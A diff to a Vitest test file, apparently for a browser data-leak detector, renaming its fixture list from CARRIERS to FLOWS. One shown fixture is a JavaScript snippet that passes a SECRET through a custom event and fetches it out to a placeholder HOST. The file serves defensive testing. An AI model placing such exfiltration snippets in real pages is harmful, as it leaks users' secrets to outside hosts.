@@ -1,7 +1,12 @@
 import { describe, test } from "vitest";
-import { type Carrier, expectHarmlessOnOwnSite, expectHarmlessWithoutSecret, expectLeak } from "../testing/carriers.ts";
+import {
+	type DataFlow,
+	expectHarmlessOnOwnSite,
+	expectHarmlessWithoutSecret,
+	expectLeak,
+} from "../testing/data-flow-checks.ts";
 
-const CARRIERS: readonly Carrier[] = [
+const FLOWS: readonly DataFlow[] = [
 	[
 		"an event of its own",
 		`addEventListener("zz", (event) => fetch("HOST/" + event.detail)); dispatchEvent(new CustomEvent("zz", { detail: SECRET }));`,
@@ -84,9 +89,9 @@ const CARRIERS: readonly Carrier[] = [
 ];
 
 describe("data through the page", () => {
-	test.each(CARRIERS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
-	test.each(CARRIERS)("%s carries nothing when there is nothing to carry", (_title, code) =>
+	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
+	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(CARRIERS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
 });
